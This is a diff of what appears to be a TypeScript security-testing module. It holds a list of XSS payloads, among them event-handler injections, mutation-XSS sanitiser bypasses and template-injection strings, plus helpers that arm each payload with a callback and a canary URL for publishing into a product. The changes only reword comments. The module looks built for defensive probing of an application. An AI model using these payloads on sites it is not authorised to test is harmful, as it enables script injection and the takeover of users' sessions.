@@ -1,6 +1,6 @@
 /**
- * Texts that try to run FIRE or to call at CANARY, as Markdown, as HTML or as a template. `B64(…)` stands for its
- * content in base64. They are published wherever the product takes a text.
+ * Texts that try to run FIRE or to request CANARY, as Markdown, HTML or template. `B64(…)` stands for its content in
+ * base64. They are published wherever the product accepts text.
  */
 export const payloads: readonly string[] = [
   // Elements that run or load something by themselves
@@ -47,7 +47,7 @@ export const payloads: readonly string[] = [
   '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=FIRE>x</p>',
   '<p style="background:url(CANARY)">x</p>',
   '<template shadowrootmode=open><img src=x onerror=FIRE></template>',
-  // Texts that become something else when a parser has read them twice
+  // Texts that change their meaning when they are parsed twice
   '<noscript><p title="</noscript><img src=x onerror=FIRE>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=FIRE&gt;">',
   '<svg></p><style><a title="</style><img src=x onerror=FIRE>">',
@@ -108,12 +108,12 @@ export const payloads: readonly string[] = [
   '@:app.title {0} {name} | {n} @.lower:{x}',
 ];
 
-/** The number by which a text is found again on a page. */
+/** Mark with which payload `n` is found on a page. */
 export function markOf(n: number): string {
   return `Probe-${n}-`;
 }
 
-/** Payload `n` as it is published: it tells its number when it runs or calls. */
+/** Payload `n` in the form that is published: it reports `n` when it runs or requests the canary. */
 export function arm(n: number, canary: string): string {
   const text = (payloads[n] ?? '').replaceAll('FIRE', `fired(${n})`).replaceAll('CANARY', `${canary}/${n}`);
   return text.replace(/B64\((.*?)\)(?=[")]|#x)/g, (_all, content: string) => Buffer.from(content).toString('base64'));
